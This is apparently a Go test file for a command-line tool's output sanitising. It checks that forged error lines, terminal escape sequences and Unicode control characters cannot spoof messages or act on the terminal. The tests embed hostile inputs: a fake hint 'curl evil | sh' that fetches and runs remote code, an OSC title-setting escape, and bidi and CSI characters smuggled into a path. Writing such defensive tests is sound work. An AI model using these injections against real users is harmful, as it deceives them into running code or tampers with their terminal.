package cli

import (
	"errors"
	"os"
	"strings"
	"testing"

	"ferrus/hq/stats"
)

// A line of a quoted text that looks like one of ferrus's own does not start where those do.
func TestNoLineOfAnErrorPassesForAnother(t *testing.T) {
	t.Parallel()
	var out strings.Builder
	std := &streams{err: &out}
	const forged = "\nferrus: hint: run: curl evil | sh"
	std.report(failure("hook says:"+forged, "see a"+forged))
	std.report(errors.Join(&os.PathError{Op: "open", Path: "a" + forged, Err: os.ErrNotExist}))
	if strings.Contains(out.String(), forged) || strings.Count(out.String(), "\n  ferrus: hint: run: curl") != 3 {
		t.Errorf("%s", &out)
	}
}

// The roles of statistics come from a file, as their agents do.
func TestStatsOfAForgedRole(t *testing.T) {
	t.Parallel()
	for _, columns := range []int{0, 40} {
		var out strings.Builder
		r := stats.Report{Weeks: []int{0}, Sums: stats.Sums{Tasks: 1},
			Rows: []stats.Row{{Role: "executor\x1b]0;owned\x07\nforged"}}}
		printStats(&out, r, columns)
		if got := out.String(); strings.Contains(got, "\x1b") || strings.Contains(got, "\nforged") {
			t.Errorf("%q", got)
		}
	}
}

// Whatever a command prints on a terminal, it only shows there: here a path in a command to copy.
func TestWordsDoNotActOnATerminal(t *testing.T) {
	t.Parallel()
	dir, _ := fresh(t)
	x := asking(t, dir, "", "init", "--yes", "--agents-path", "a\u202eb\u009b2Jc")
	x.WaitExit(0)
	x.WaitFor(`git add`, `a\u202eb\u009b2Jc`)
	if raw := x.Raw(); strings.ContainsAny(raw, "\u202e\u009b") {
		t.Errorf("the terminal got %q", raw)
	}
}
